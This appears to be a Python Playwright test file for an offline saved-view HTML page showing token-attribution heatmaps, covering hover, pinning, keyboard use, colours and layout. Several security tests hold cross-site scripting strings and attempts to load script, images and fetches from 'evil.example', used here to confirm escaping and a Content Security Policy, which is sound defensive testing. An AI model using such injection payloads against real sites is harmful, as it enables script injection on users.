"""A saved view opened as a person opens it: from the disk, in Chromium, with the network off."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest

from at2_core import exploration as explorations
from pages.ui.saved_view import saved_view
from pages.ui.token_heatmap import ViewState
from tests.browser.conftest import Visit
from tests.browser.own_text import fill_in
from tests.browser.test_explore_browser import (
    HOSTILE,
    MINUTES,
    SHOWN,
    address,
    drawn,
    eventually,
    sentence,
    switch,
)

COLOURED = "[...document.querySelectorAll('.scores path')].filter((p) => p.style.fillOpacity > 0)"


@pytest.fixture
def open_file(chromium):
    """`open_file(path)` opens a file in a context of its own that has no network; at the end, nothing was asked for and
    nothing complained."""
    opened = []

    def open_page(path: Path, **options) -> Visit:
        context = chromium.new_context(viewport={"width": 1280, "height": 720}, offline=True, **options)
        page = context.new_page()
        page.set_default_timeout(60_000)
        seen = Visit(page, path.as_uri())
        context.on("request", lambda request: seen.requests.append(request.url))
        page.on("pageerror", lambda error: seen.errors.append(str(error)))
        page.on("console", lambda line: seen.errors.append(line.text) if line.type != "log" else None)
        page.on("dialog", lambda dialog: (seen.dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(path.as_uri())
        opened.append((context, seen))
        page.locator(".rows li").first.wait_for()  # the list follows a moment after the colours
        return seen

    yield open_page
    for context, seen in opened:
        context.close()
        assert (seen.requests, seen.errors, seen.dialogs) == ([seen.address], [], [])


@pytest.fixture
def saved(open_file, tmp_path):
    """`saved(view, ...)`: (visit, exploration) of the example with the most sentences, saved so and opened."""

    def save(view: ViewState | None = None, title: str | None = None, model: str | None = None, **options):
        loaded = [explorations.load_example(name) for name, _, _ in explorations.gallery()]
        example = max(loaded, key=lambda e: len(e.sentences))
        example = replace(example, title=title or example.title, model=model or example.model)
        page = saved_view(example, example.scores["at2"], view or ViewState(), "at2", "AT2")
        path = tmp_path / "view.html"
        path.write_bytes(page.encode())
        return open_file(path, **options), example

    return save


def coloured(page, within: str = "") -> list[str]:
    return page.evaluate(
        f"{COLOURED}.filter((p) => !{within!r} || p.closest({within!r}))"
        ".map((p) => p.getAttribute('d') + p.style.fillOpacity).sort()"
    )


def marks(page, name: str) -> int:
    return page.evaluate(
        f"[...document.querySelectorAll('.heat > path.{name}')].filter((p) => p.getAttribute('d')).length"
    )


def listed(page) -> list[str]:
    return page.locator(".rows li:not([hidden])").all_inner_texts()


def test_hovering_recolours_and_leaving_brings_the_colours_back(saved):
    page = saved()[0].page
    page.wait_for_timeout(300)
    before = coloured(page, ".prompt")
    assert before
    sentence(page, 1).hover()
    eventually(page, lambda: coloured(page, ".prompt") != before, "the colours did not change")
    page.mouse.move(5, 5)
    eventually(page, lambda: coloured(page, ".prompt") == before, "the colours did not come back")


def test_a_click_pins_shift_extends_escape_clears(saved):
    page = saved()[0].page
    target = page.locator(".ranked .for")
    sentence(page, 0).click()
    eventually(page, lambda: marks(page, "pin") == 2 and "“" in target.inner_text(), "nothing is pinned")
    pinned = target.inner_text()
    page.mouse.move(5, 5)
    assert marks(page, "pin") == 2
    shapes = "[...document.querySelectorAll('.heat > path.pin')].map((p) => p.getAttribute('d')).join('')"
    short = len(page.evaluate(shapes))
    sentence(page, 1).click(modifiers=["Shift"])
    eventually(page, lambda: len(page.evaluate(shapes)) > short, f"{pinned} was not extended")
    page.keyboard.press("Escape")
    page.mouse.move(5, 5)
    eventually(page, lambda: not marks(page, "pin"), "Escape did not clear the pin")
    eventually(page, lambda: "the whole response" in target.inner_text(), "the list kept the pin")


def test_it_can_be_used_from_the_keyboard(saved):
    page = saved()[0].page
    page.locator(".text.response").focus()
    page.keyboard.press("ArrowRight")
    page.keyboard.press("Enter")
    eventually(page, lambda: marks(page, "pin") == 2, "Enter did not pin")
    eventually(page, lambda: "%" in page.locator("[aria-live]").inner_text(), "nothing was announced")


def test_pointing_at_a_source_shows_where_the_response_used_it(saved):
    page = saved()[0].page
    assert not coloured(page, ".response")
    page.locator(".doc .body .u").nth(5).hover()
    eventually(page, lambda: coloured(page, ".response"), "the response was not coloured")


def test_the_numbers_are_those_of_the_matrix(saved):
    seen, example = saved(ViewState(pin=(3, 9), granularity="word"))
    rows = example.scores["at2"][3:10].astype(float).mean(axis=0)
    scores = np.array([rows[s.token_start : s.token_end].sum() for s in example.sources["word"]])
    top = int(scores.argmax())
    first = seen.page.locator(".rows li").first
    assert float(first.locator(".raw").inner_text()) == pytest.approx(scores[top], rel=6e-3)
    assert first.locator(".text").inner_text() == example.sources["word"][top].text.strip()
    assert marks(seen.page, "pin") == 2
    assert seen.page.locator(".bar input:checked + span").all_inner_texts()[1] == "Word"


def test_it_offers_no_scope_whose_scores_it_does_not_hold(saved):
    page = saved()[0].page
    scopes = page.locator(".bar fieldset", has_text="Attribute to").locator("label").all_inner_texts()
    assert scopes == ["Context", "Whole prompt"]


def test_its_colours_follow_the_readers_scheme(saved):
    page = saved(color_scheme="dark")[0].page
    paper, ink = "getComputedStyle(document.body).backgroundColor", "getComputedStyle(document.body).color"
    assert page.evaluate(f"[{paper}, {ink}]") == ["rgb(20, 23, 27)", "rgb(227, 229, 232)"]
    page.emulate_media(color_scheme="light")
    assert page.evaluate(f"[{paper}, {ink}]") == ["rgb(251, 250, 247)", "rgb(32, 36, 43)"]


def test_it_fits_the_window(saved):
    page = saved()[0].page
    for box in (".masthead", ".text.prompt", ".text.response", ".ranked"):
        place = page.locator(box).bounding_box()
        assert place["y"] + place["height"] <= 720
    assert page.evaluate("document.documentElement.scrollHeight <= innerHeight")


def test_hostile_names_stay_text_and_one_line(saved):
    seen, _ = saved(title=f"</script>{HOSTILE}", model=HOSTILE * 9)
    page = seen.page
    assert page.locator("h1").inner_text().startswith("</script><script>top.pwned=1</script> <img")
    assert page.locator("dd").first.inner_text().startswith("<script>top.pwned=1</script>")
    assert page.locator("dd").first.bounding_box()["height"] < 30
    assert page.title().startswith("</script><script>")
    assert page.evaluate("top.pwned") is None


def test_nothing_that_gets_into_it_runs_or_loads(saved):
    seen, _ = saved()
    stopped_by = []
    seen.page.on("requestfailed", lambda request: stopped_by.append(request.failure))
    attempt = """() => {
        const put = (tag, part) => document.body.append(Object.assign(document.createElement(tag), part));
        put("script", { textContent: "top.pwned = 1" });
        put("script", { src: "http://evil.example/a.js" });
        put("img", { src: "http://evil.example/i.png" });
        put("iframe", { src: "http://evil.example/" });
        put("style", { textContent: "body { background: url(http://evil.example/b.png); }" });
        return fetch("http://evil.example/").then(() => "sent", () => "refused");
    }"""
    assert seen.page.evaluate(attempt) == "refused"
    seen.page.wait_for_timeout(300)
    assert seen.page.evaluate("top.pwned") is None
    assert stopped_by == ["csp"] * (len(seen.requests) - 1)  # what is tried is heard of, too
    assert all("Content Security Policy" in line or "Fetch API" in line for line in seen.errors), seen.errors
    del seen.requests[1:], seen.errors[:]


def test_what_was_looked_at_in_the_app_is_what_the_file_shows(visit, open_file, tmp_path):
    seen = drawn(visit("?example=mill"))
    switch(seen.page, "Sources", "Word")
    switch(seen.page, "Scores", "Signed")
    sentence(seen.page, 0).click()
    eventually(seen.page, lambda: "pin=" in address(seen.page), "the pin is not in the address")
    seen.page.mouse.move(5, 5)
    seen.page.wait_for_timeout(500)
    page = open_file(downloaded(seen.page, tmp_path)).page
    assert listed(page) == listed(seen.page)
    assert page.locator(".readout").inner_text() == seen.page.locator(".readout").inner_text()
    assert page.locator(".bar input:checked + span").all_inner_texts() == [
        "Context", "Word", "Sentence", "Signed",
    ]  # fmt: skip


def test_hostile_text_in_every_field_stays_text(visit, open_file, tmp_path):
    page = visit("?run=new").page
    hostile = f"</script>{HOSTILE}<!--<script>"
    fill_in(page, title=hostile, text=hostile, query=hostile, response=f"{hostile}\n\n{hostile}")
    page.get_by_role("button", name="Attribute").click()
    page.locator(".response .u").first.wait_for(timeout=MINUTES)
    saved = open_file(downloaded(page, tmp_path)).page
    shown = hostile.replace(HOSTILE, SHOWN)
    assert saved.locator(".text.response").text_content().replace("↵", "").count(shown) == 2
    assert saved.locator(".text.prompt").text_content().replace("↵", "").count(shown) == 3
    assert (
        saved.locator("h1").inner_text().startswith("</script><script>")
    )  # its query: it has no other title
    assert saved.evaluate("top.pwned") is None
    assert not saved.locator("body :is(img, a, link, iframe)").count()
    assert saved.locator("script").count() == 2


def downloaded(page, folder: Path) -> Path:
    page.get_by_role("button", name="Save", exact=True).click()
    with page.expect_download(timeout=MINUTES) as download:
        page.get_by_role("button", name="This view (HTML)").click()
    path = folder / download.value.suggested_filename
    download.value.save_as(path)
    return path
